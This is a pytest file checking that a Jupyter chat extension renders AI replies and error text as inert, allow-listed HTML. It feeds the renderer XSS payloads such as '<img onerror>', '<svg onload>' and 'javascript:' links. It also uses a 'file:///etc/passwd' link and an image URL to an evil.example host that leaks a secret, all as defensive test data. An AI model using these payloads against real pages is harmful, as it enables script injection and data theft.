"""What ``%%chat`` puts on IOPub is inert: the renderer (r3nb/kernel/render.py) and the
reply view (r3nb/kernel/view.py) with every hostile corpus entry, checked by an allow-list
over the HTML as a browser would parse it. Fast: no kernel, no server, no browser (the
real-browser proof is tests/test_browser_chat_output.py)."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest

from tests.hostile_corpus import EVIL, HOSTILE, PWN

#: Every element the output may contain.
ALLOWED_TAGS = frozenset({
    "a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr",
    "ul",
})  # fmt: skip
#: Every attribute it may carry (no on*, no style, no src, no id/name).
ALLOWED_ATTRS = frozenset({"href", "title", "class", "target", "rel", "align", "start"})
LINK_SCHEMES = ("http:", "https:", "mailto:")
HOSTILE_ERROR = f'<img src=x onerror="{PWN}"> failed: [x](javascript:{PWN}) ![l]({EVIL}/e.png)'


class Element:
    def __init__(self, tag: str, attrs: dict[str, str]) -> None:
        self.tag, self.attrs = tag, attrs


class Collect(HTMLParser):
    """Every start tag with its (entity-decoded) attributes, as a browser reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def unknown_decl(self, data: str) -> None:
        self.elements.append(Element(f"<!{data}>", {}))

    def handle_comment(self, data: str) -> None:
        self.elements.append(Element("<!--comment-->", {}))


def parse(html: str) -> Collect:
    parser = Collect()
    parser.feed(html)
    parser.close()
    return parser


def violations(html: str) -> list[str]:
    """Everything in ``html`` that a trusted-output renderer could act on."""
    found = []
    for el in parse(html).elements:
        if el.tag not in ALLOWED_TAGS:
            found.append(f"element <{el.tag}>")
        for name, value in el.attrs.items():
            if name not in ALLOWED_ATTRS:
                found.append(f"attribute {name}={value!r} on <{el.tag}>")
        href = "".join(ch for ch in el.attrs.get("href", "") if ord(ch) > 0x20).lower()
        if "href" in el.attrs and not href.startswith(LINK_SCHEMES):
            found.append(f"href {el.attrs['href']!r}")
        if el.tag == "a" and "href" in el.attrs and el.attrs.get("rel") != "noopener noreferrer":
            found.append(f"link without rel: {el.attrs}")
    return found


@pytest.fixture(scope="module")
def render() -> Any:
    from r3nb.kernel import render

    return render


# --- the renderer ------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "payload"), HOSTILE, ids=[name for name, _ in HOSTILE])
def test_every_hostile_reply_renders_to_allow_listed_html(
    render: Any, name: str, payload: str
) -> None:
    html = render.reply_html(payload, note="fake · complete")
    assert violations(html) == [], html
    assert "<img" not in html  # no image ever: a link naming its host, or text


def test_all_hostile_replies_together_and_cut_anywhere_stay_inert(render: Any) -> None:
    """Live updates render a prefix of the reply: a tag cut in half must stay text too.
    (Blocks apart from a blank line render independently, so each payload's prefixes.)"""
    text = "\n\n".join(payload for _, payload in HOSTILE)
    assert violations(render.reply_html(text)) == []
    for _, payload in HOSTILE:
        for end in range(len(payload)):
            html = render.markdown_html(payload[:end])
            assert violations(html) == [], (payload[:end], html)


def test_links_keep_only_http_https_and_mailto_targets(render: Any) -> None:
    html = render.markdown_html(
        "[ok](https://example.org/a?b=1) [mail](mailto:a@b.example) [rel](notes.ipynb) "
        "[js](javascript:alert(1)) [proto](//evil.example/x) [file](file:///etc/passwd)"
    )
    hrefs = [el.attrs["href"] for el in parse(html).elements if "href" in el.attrs]
    assert hrefs == ["https://example.org/a?b=1", "mailto:a@b.example"]
    assert "[js](javascript:alert(1))" in html  # left as the text the model wrote


def test_images_are_links_naming_their_host_never_loaded(render: Any) -> None:
    html = render.markdown_html(
        f"![chart]({EVIL}/leak?d=secret) ![local](plot.png) [![in link]({EVIL}/i.png)](https://ok.example)"
    )
    links = [el.attrs for el in parse(html).elements if el.tag == "a"]
    assert links[0]["href"] == f"{EVIL}/leak?d=secret"
    assert "[image from evil.example: chart]" in html
    assert "![local](plot.png)" in html  # relative: not a link target we allow
    assert [link["href"] for link in links] == [f"{EVIL}/leak?d=secret", "https://ok.example"]
    assert "[image from evil.example: in link]" in html  # no link nested in a link
    assert "<img" not in html


def test_normal_markdown_still_renders(render: Any) -> None:
    html = render.reply_html(
        "# Title\n\nSome **bold**, *em*, ~~gone~~ and `code`.\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n"
        "```python\nprint('<b>')\n```\n\n"
        "| region | revenue |\n|:-------|--------:|\n| north | 12 |\n\n"
        "> quoted\n\n[docs](https://docs.example/x) and $x^2$ stay text\n\n---\n",
        note="fake · complete · 3 → 4 tokens · cost unknown",
    )
    tags = [el.tag for el in parse(html).elements]
    for tag in ("h1", "strong", "em", "s", "code", "ul", "ol", "li", "pre", "table", "th",
                "td", "blockquote", "a", "hr"):  # fmt: skip
        assert tag in tags, (tag, html)
    assert '<code class="language-python">print(&#x27;&lt;b&gt;&#x27;)' in html or (
        "<code class=\"language-python\">print('&lt;b&gt;')" in html
    ), html
    assert '<ol start="3">' in html
    assert '<td align="right">12</td>' in html
    assert "$x^2$" in html
    wrapper = parse(html).elements[0]
    assert wrapper.tag == "div"
    assert "mathjax_ignore" in wrapper.attrs["class"].split()  # math is not typeset
    assert "fake · complete · 3 → 4 tokens · cost unknown" in "".join(parse(html).text)
    assert violations(html) == []


def test_the_note_is_escaped_text_never_markup(render: Any) -> None:
    html = render.reply_html("", note=HOSTILE_ERROR, note_label="r3nb:")
    assert violations(html) == []
    assert [el.tag for el in parse(html).elements] == ["div", "p", "strong", "em"]
    assert HOSTILE_ERROR in "".join(parse(html).text)


def test_an_export_displays_as_escaped_text() -> None:
    from r3nb.kernel.api import Transcript

    text = "# t\n\n" + HOSTILE_REPLY
    transcript = Transcript(text)
    assert transcript == text
    assert isinstance(transcript, str)
    html = transcript._repr_html_()
    assert violations(html) == []
    assert [el.tag for el in parse(html).elements] == ["div", "pre"]
    assert "".join(parse(html).text) == text


# --- the view: every bundle %%chat puts on IOPub --------------------------------------------


class Shown(list[dict[str, str]]):
    """What ReplyView displays (the first bundle, then each update); ``updated`` is set
    at each update, so a stream can wait for a live render before it ends."""

    def __init__(self) -> None:
        super().__init__()
        self.updated = threading.Event()

    def update(self, bundle: dict[str, str], raw: bool = False) -> None:
        assert raw
        self.append(bundle)
        self.updated.set()


@pytest.fixture
def shown(monkeypatch: pytest.MonkeyPatch) -> Shown:
    import IPython.display

    bundles = Shown()

    def display(bundle: dict[str, str], raw: bool = False, display_id: bool = False) -> Shown:
        assert raw
        assert display_id
        bundles.append(bundle)
        return bundles  # the display handle: its update() appends

    monkeypatch.setattr(IPython.display, "display", display)
    return bundles


def _follow(
    shown: Shown, text: str, final: dict[str, Any] | None = None, error: str | None = None
) -> Any:
    """Stream ``text`` word by word through a real Follower into a ReplyView, then end
    with ``final`` (a "done" event) or ``error`` (the client's error) once it has been
    shown live at least once."""
    from r3nb.kernel.client import R3nbClientError
    from r3nb.kernel.live import Follower
    from r3nb.kernel.view import ReplyView

    def events() -> Iterator[Any]:
        yield "start", {"assistant_message": {"id": "m1", "model": "fake"}}
        offset = 0
        for piece in text.split(" "):
            yield "delta", {"message_id": "m1", "offset": offset, "text": piece + " "}
            offset += len(piece) + 1
        assert shown.updated.wait(10), "no live update"
        if error is not None:
            raise R3nbClientError(502, error)
        yield "done", {"message": final}

    view = ReplyView("fake")
    follower = Follower(events).start()
    view.follow(follower, client=None, interval=0.01)  # type: ignore[arg-type]
    return view


def _assert_inert(bundles: list[dict[str, str]]) -> None:
    assert len(bundles) >= 2
    for bundle in bundles:
        assert set(bundle) <= {"text/html", "text/plain"}, sorted(bundle)
        assert "text/html" in bundle
        assert violations(bundle["text/html"]) == [], bundle["text/html"]


HOSTILE_REPLY = "Here:\n\n" + "\n\n".join(payload for _, payload in HOSTILE) + "\n\n**End.**"


def test_chat_output_live_and_final_is_inert_html(shown: Shown) -> None:
    final = {"id": "m1", "model": "fake", "status": "complete", "content": HOSTILE_REPLY,
             "prompt_tokens": 3, "completion_tokens": 9, "cost": None}  # fmt: skip
    view = _follow(shown, HOSTILE_REPLY, final)
    _assert_inert(shown)
    assert view.done.is_set()
    last = shown[-1]
    assert "<strong>End.</strong>" in last["text/html"]
    note = "fake · complete · 3 → 9 tokens · cost unknown"
    assert last["text/plain"] == f"{HOSTILE_REPLY}\n\n{note}"
    live = shown[1:-1]
    assert live, "the reply must appear live"
    assert all(list(bundle) == ["text/html"] for bundle in live), "live: rendered HTML only"


def test_provider_error_in_the_footer_is_inert(shown: Shown) -> None:
    final = {"id": "m1", "model": "fake", "status": "error", "content": "partial <b>",
             "error": HOSTILE_ERROR, "cost": None}  # fmt: skip
    _follow(shown, "partial <b>", final)
    _assert_inert(shown)
    assert HOSTILE_ERROR in "".join(parse(shown[-1]["text/html"]).text)


def test_client_error_text_is_inert(shown: Shown) -> None:
    view = _follow(shown, "partial <svg onload=x>", error=HOSTILE_ERROR)
    _assert_inert(shown)
    assert view.error == HOSTILE_ERROR
    html = shown[-1]["text/html"]
    assert HOSTILE_ERROR in "".join(parse(html).text)
    assert shown[-1]["text/plain"].endswith(f"r3nb: {HOSTILE_ERROR}")


def test_loading_the_extension_does_not_import_the_renderer() -> None:
    code = (
        "import sys, json, r3nb\n"
        "class Shell:\n"
        "    def register_magics(self, m): pass\n"
        "r3nb.load_ipython_extension(Shell())\n"
        "print(json.dumps([m for m in ('markdown_it', 'r3nb.kernel.render',"
        " 'r3nb.kernel.view') if m in sys.modules]))\n"
    )
    run = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True
    )
    assert json.loads(run.stdout.splitlines()[-1]) == []
